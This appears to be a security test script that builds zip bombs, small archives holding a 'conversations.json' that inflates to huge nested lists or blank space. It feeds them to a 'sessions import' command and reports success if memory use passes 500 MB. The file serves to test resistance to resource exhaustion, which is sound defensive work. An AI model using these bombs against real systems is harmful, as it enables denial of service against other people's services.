"""A .zip of about ten kilobytes takes more than half a gigabyte of memory when it is imported."""

import io
import resource
import zipfile

from support.attack import Refused, Target, run

ALLOWED = 500_000  # kB; the import of a normal file takes some 100,000
BOMBS = {
    "lists": [b'[{"mapping": {}, "x": [', *[b"[]," * 1_000_000] * 12, b"0]}]"],
    "blanks": [b" " * 1_000_000] * 200,
}


def packed(parts: list[bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("conversations.json", "w") as file:
        for part in parts:
            file.write(part)
    return out.getvalue()


def attack(target: Target) -> str:
    target.memory = 1_500_000_000
    reasons = []
    for name, parts in BOMBS.items():
        file = target.home / f"{name}.zip"
        file.write_bytes(packed(parts))
        done = target.run("sessions", "import", str(file))
        taken = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        if taken > ALLOWED or "MemoryError" in done.stderr:
            return f"{file.stat().st_size} bytes took {taken // 1000} MB of memory"
        reasons.append(done.stderr)
    raise Refused(reasons[0])


run(attack)
